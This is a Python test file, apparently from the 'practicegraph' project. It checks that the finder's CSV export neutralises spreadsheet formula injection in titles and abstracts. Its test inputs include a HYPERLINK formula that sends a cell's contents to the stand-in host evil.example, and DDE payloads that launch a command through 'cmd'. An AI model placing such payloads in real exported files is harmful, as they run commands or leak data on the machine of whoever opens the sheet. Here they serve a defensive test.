"""The finder's CSV runs nothing in a spreadsheet: a title is a page's heading, written by the
site's authors, and a cell that starts as a formula would run in whoever opens the list."""

from __future__ import annotations

import csv
import io

import pytest

from practicegraph.finder.search import Practice
from practicegraph.web.render.finder_data import as_csv


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "+31 samen",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_be_a_formula_is_text(title: str) -> None:
    practice = Practice("http://localhost:8000/id/praktijk/x", title, title, "", {})
    (row,) = csv.DictReader(io.StringIO(as_csv([practice]).decode("utf-8")))
    assert row["title"] == "'" + title
    assert row["abstract"] == "'" + title
    assert row["iri"] == practice.iri


def test_ordinary_text_is_left_as_it_is() -> None:
    practice = Practice(
        "http://localhost:8000/id/praktijk/x", "Taalcafés", "Een café - voor taal", "", {}
    )
    (row,) = csv.DictReader(io.StringIO(as_csv([practice]).decode("utf-8")))
    assert (row["title"], row["abstract"]) == ("Taalcafés", "Een café - voor taal")
